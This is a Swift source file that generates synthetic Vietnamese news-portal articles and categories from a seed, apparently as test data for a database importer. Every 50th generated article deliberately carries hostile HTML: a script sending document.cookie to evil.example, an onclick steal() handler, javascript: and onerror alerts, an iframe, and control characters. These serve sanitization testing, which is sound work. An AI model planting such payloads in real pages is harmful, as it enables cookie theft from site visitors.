import LoaCore
import LoaKit

/// The synthetic portal: categories in a two-level tree and articles in the database contract
/// (docs/database.md), generated deterministically from a seed.
///
/// What a row looks like (all shares are fixed by id or by the row's own random stream):
/// - title, summary and an HTML body of about 3 KB (paragraphs, an `h2`, lists, figures with
///   captions, images and links with site-relative URLs) in Vietnamese with diacritics;
///   20% of the rows are stored decomposed (NFD);
/// - bylines of one to three names ("Trần Thanh – Lương Huấn"), two to four tags, a lead
///   image with a caption on 80% of rows (relative URL), an explicit `url` on a third;
/// - every 50th row is hostile: `<script>`, `onclick`, `javascript:` links, an `iframe`,
///   control characters and U+FFFE, markup in the title, `]]>` in the body;
/// - every 97th row is a draft, every 211th is scheduled (December 2026), every 503rd has no
///   category; `published_at` is `YYYY-MM-DD HH:MM:SS` local time, rising with the id from
///   2023-11-01 to 2026-11-01 with a few hours of jitter; 40% have an `updated_at`.
struct Corpus {
  let articles: Int
  let categories: Int
  let seed: UInt64
  let vocabulary = Vocabulary.shared
  /// Every category, index = id - 1.
  let categoryList: [Category]

  init(articles: Int, categories: Int, seed: UInt64) {
    self.articles = articles
    self.categories = categories
    self.seed = seed
    var list: [Category] = []
    for i in 1...max(1, categories) { list.append(Self.makeCategory(i, parents: max(1, categories / 10), list)) }
    categoryList = list
  }

  /// Number of top-level categories: about one in ten.
  var parentCount: Int { max(1, categories / 10) }

  struct Category {
    var id: Int64
    var parentID: Int64?
    var slug: String
    var name: String
    var description: String
  }

  /// Ids 1…parentCount are top-level; every other category hangs under one of them.
  private static func makeCategory(_ i: Int, parents p: Int, _ earlier: [Category]) -> Category {
    let vocabulary = Vocabulary.shared
    let topics = vocabulary.topics
    if i <= p {
      let topic = topics[(i - 1) % topics.count]
      let round = (i - 1) / topics.count
      let name = round == 0 ? topic : "\(topic) \(round + 1)"
      return Category(
        id: Int64(i), parentID: nil, slug: Vocabulary.slug(name), name: name,
        description: "Tin tức và bài viết chuyên mục \(name) của phường Bãi Cháy.")
    }
    let parent = 1 + (i - p - 1) % p
    let parentName = earlier[parent - 1].name
    let sub = vocabulary.subTopics[((i - p - 1) / p) % vocabulary.subTopics.count]
    let name = "\(sub) – \(parentName)"
    return Category(
      id: Int64(i), parentID: Int64(parent), slug: Vocabulary.slug(name) + "-\(i)", name: name,
      description: "\(sub) thuộc chuyên mục \(parentName).")
  }

  /// One article row; optional columns are nil for SQL NULL. Text is UTF-8 bytes.
  struct Article {
    var id: Int64
    var categoryID: Int64?
    var title: [UInt8] = []
    var slug: [UInt8] = []
    var summary: [UInt8]?
    var content: [UInt8] = []
    var author: [UInt8] = []
    var imageURL: [UInt8]?
    var imageCaption: [UInt8]?
    var url: [UInt8]?
    var tags: [UInt8] = []
    var status: [UInt8] = []
    var publishedAt: [UInt8] = []
    var updatedAt: [UInt8]?
  }

  /// Local Unix-like seconds (days since 1970 × 86400 + time of day, no zone) of the range.
  static let start = Civil.days(year: 2023, month: 11, day: 1) * 86_400
  static let end = Civil.days(year: 2026, month: 11, day: 1) * 86_400
  static let scheduledStart = Civil.days(year: 2026, month: 12, day: 1) * 86_400

  func article(_ id: Int64) -> Article {
    var rng = SplitMix64(seed: seed, stream: 1, row: id)
    var a = Article(id: id)
    let nfd = rng.chance(20)
    let hostile = id % 50 == 0
    if id % 503 != 0 { a.categoryID = Int64(1 + rng.below(categories)) }

    // Title, 8–15 words, and a slug from its first six words.
    var slugWords: [[UInt8]] = []
    if hostile { a.title += Array("<b>Nóng:</b> ".utf8) }
    let titleWords = rng.between(8...15)
    for k in 0..<titleWords {
      let w = rng.below(vocabulary.words.count)
      if k > 0 { a.title.append(0x20) }
      a.title += vocabulary.words[w].bytes(nfd: nfd, capitalized: k == 0)
      if k < 6 { slugWords.append(vocabulary.slugs[w]) }
    }
    if hostile { a.title += Array(" \u{7}&amp; \u{FFFE}tin\u{1}".utf8) }
    for (k, s) in slugWords.enumerated() {
      if k > 0 { a.slug.append(0x2D) }
      a.slug += s
    }

    if id % 8 != 3 {
      var s: [UInt8] = []
      sentence(&rng, &s, nfd: nfd, words: 14...26)
      if rng.chance(50) {
        s.append(0x20)
        sentence(&rng, &s, nfd: nfd, words: 10...20)
      }
      if hostile { s += Array(" <i>xem thêm</i>\u{B}".utf8) }
      a.summary = s
    }

    let categorySlug = a.categoryID.map { categoryList[Int($0) - 1].slug } ?? "tin-tuc"
    body(&rng, &a, nfd: nfd, hostile: hostile, categorySlug: categorySlug)

    // Byline: one to three names, joined like Vietnamese portals do.
    let names = rng.chance(60) ? 1 : rng.chance(75) ? 2 : 3
    for k in 0..<names {
      if k > 0 { a.author += Array((rng.chance(70) ? " – " : rng.chance(50) ? ", " : " và ").utf8) }
      name(&rng, &a.author, nfd: nfd)
    }
    if hostile { a.author += Array("\u{C}".utf8) }

    for k in 0..<rng.between(2...4) {
      if k > 0 { a.tags += Array(", ".utf8) }
      a.tags += rng.pick(vocabulary.tags).bytes(nfd: nfd)
    }

    let year = 2023 + Int(id % 4)
    let month = 1 + Int(id % 12)
    if rng.chance(80) {
      let ext = rng.chance(85) ? "jpg" : rng.chance(50) ? "png" : "webp"
      a.imageURL = Array("/uploads/\(year)/\(pad(month))/".utf8) + a.slug + Array("-\(id).\(ext)".utf8)
      var c: [UInt8] = []
      sentence(&rng, &c, nfd: nfd, words: 8...16)
      c += Array(" Ảnh: ".utf8)
      name(&rng, &c, nfd: nfd)
      a.imageCaption = c
    }
    if id % 3 == 0 {
      a.url = Array("/\(categorySlug)/".utf8) + a.slug + Array("-\(id).html".utf8)
    }

    a.status = Array((id % 97 == 0 ? "draft" : "published").utf8)
    var published: Int64
    if id % 211 == 0 {
      published = Self.scheduledStart + Int64(rng.below(30 * 86_400))
    } else {
      let span = Self.end - Self.start
      published = Self.start + span * (id - 1) / Int64(max(1, articles)) + Int64(rng.below(6 * 3600))
      published = min(published, Self.end - 1)
    }
    a.publishedAt = Self.format(published)
    if rng.chance(40) {
      // Mostly later than published; every 137th earlier (loa notes it and uses published_at).
      let delta = Int64(rng.below(3 * 86_400))
      a.updatedAt = Self.format(id % 137 == 0 ? published - 3600 : published + delta)
    }
    return a
  }

  private func pad(_ v: Int) -> String { v < 10 ? "0\(v)" : "\(v)" }

  private func name(_ rng: inout SplitMix64, _ out: inout [UInt8], nfd: Bool) {
    if rng.chance(60) {
      out += rng.pick(vocabulary.familyNames).bytes(nfd: nfd)
      out.append(0x20)
    }
    out += rng.pick(vocabulary.givenNames).bytes(nfd: nfd)
  }

  /// A sentence of `words` words, capitalized, with the odd comma or number, ending in a period.
  private func sentence(
    _ rng: inout SplitMix64, _ out: inout [UInt8], nfd: Bool, words: ClosedRange<Int>,
    period: Bool = true
  ) {
    let n = rng.between(words)
    for k in 0..<n {
      if k > 0 { out.append(0x20) }
      if k > 2 && rng.chance(4) {
        out += Array("\(rng.between(2...950))".utf8)
        continue
      }
      out += rng.pick(vocabulary.words).bytes(nfd: nfd, capitalized: k == 0)
      if k > 2 && k < n - 2 && rng.chance(6) { out.append(0x2C) }
    }
    if period { out.append(0x2E) }
  }

  private func words(_ rng: inout SplitMix64, _ out: inout [UInt8], nfd: Bool, _ n: ClosedRange<Int>) {
    for k in 0..<rng.between(n) {
      if k > 0 { out.append(0x20) }
      out += rng.pick(vocabulary.words).bytes(nfd: nfd)
    }
  }

  /// About 3 KB of article HTML.
  private func body(
    _ rng: inout SplitMix64, _ a: inout Article, nfd: Bool, hostile: Bool, categorySlug: String
  ) {
    var h: [UInt8] = []
    h.reserveCapacity(3600)
    func paragraph(_ rng: inout SplitMix64, sentences: ClosedRange<Int>) {
      h += Array("<p>".utf8)
      for k in 0..<rng.between(sentences) {
        if k > 0 { h.append(0x20) }
        sentence(&rng, &h, nfd: nfd, words: 10...22)
      }
      h += Array("</p>\n".utf8)
    }
    paragraph(&rng, sentences: 2...3)
    var figure = 0
    var block = 0
    while h.count < 2900 {
      block += 1
      switch rng.below(10) {
      case 0, 1:
        figure += 1
        h += Array("<figure><img src=\"/uploads/2026/\(pad(1 + rng.below(12)))/".utf8) + a.slug
        h += Array("-\(a.id)-\(figure).jpg\" alt=\"".utf8)
        words(&rng, &h, nfd: nfd, 4...8)
        h += Array("\" width=\"800\" height=\"533\"><figcaption>".utf8)
        sentence(&rng, &h, nfd: nfd, words: 8...16)
        h += Array(" Ảnh: ".utf8)
        name(&rng, &h, nfd: nfd)
        h += Array("</figcaption></figure>\n".utf8)
      case 2:
        h += Array("<h2>".utf8)
        sentence(&rng, &h, nfd: nfd, words: 5...10, period: false)
        h += Array("</h2>\n".utf8)
      case 3:
        h += Array("<ul>\n".utf8)
        for _ in 0..<rng.between(2...4) {
          h += Array("<li>".utf8)
          sentence(&rng, &h, nfd: nfd, words: 6...14)
          h += Array("</li>\n".utf8)
        }
        h += Array("</ul>\n".utf8)
      case 4, 5:
        h += Array("<p>".utf8)
        sentence(&rng, &h, nfd: nfd, words: 8...16)
        h += Array(" Theo <strong>".utf8)
        name(&rng, &h, nfd: nfd)
        h += Array("</strong>, ".utf8)
        words(&rng, &h, nfd: nfd, 6...12)
        h += Array(" (xem <a href=\"/\(categorySlug)/bai-viet-\(1 + rng.below(Int(a.id) + 1000)).html\">".utf8)
        words(&rng, &h, nfd: nfd, 2...5)
        h += Array("</a>). ".utf8)
        sentence(&rng, &h, nfd: nfd, words: 10...20)
        h += Array("</p>\n".utf8)
      default:
        paragraph(&rng, sentences: 2...4)
      }
      if hostile && block == 2 {
        h += Array("<script>document.location='https://evil.example/?c='+document.cookie</script>\n".utf8)
        h += Array("<p onclick=\"steal()\" style=\"color:red\" class=\"x\">Bấm vào <a href=\"javascript:alert('xss')\">đây</a> \u{1}\u{8} nhận quà\u{FFFE}.</p>\n".utf8)
        h += Array("<iframe src=\"https://ads.example/frame\"></iframe><img src=\"anh-lien-quan.jpg\" onerror=\"alert(2)\">\n".utf8)
        h += Array("<p>Mã: a]]>b &copy; 2026 &nbsp;<a href=\"lien-he.html\" target=\"_blank\">liên hệ</a></p>\n".utf8)
      }
    }
    if rng.chance(50) {
      h += Array("<p><em>".utf8)
      sentence(&rng, &h, nfd: nfd, words: 6...12)
      h += Array("</em></p>".utf8)
    }
    a.content = h
  }

  /// `YYYY-MM-DD HH:MM:SS` of local seconds.
  static func format(_ local: Int64) -> [UInt8] {
    let date = Civil.date(days: local / 86_400)
    let (y, m, d) = (Int(date.year), Int(date.month), Int(date.day))
    let s = Int(local % 86_400)
    var out: [UInt8] = []
    out.reserveCapacity(19)
    func n(_ v: Int, _ width: Int) {
      var digits: [UInt8] = []
      var x = v
      for _ in 0..<width {
        digits.append(UInt8(48 + x % 10))
        x /= 10
      }
      out += digits.reversed()
    }
    n(y, 4); out.append(0x2D); n(m, 2); out.append(0x2D); n(d, 2); out.append(0x20)
    n(s / 3600, 2); out.append(0x3A); n(s % 3600 / 60, 2); out.append(0x3A); n(s % 60, 2)
    return out
  }
}
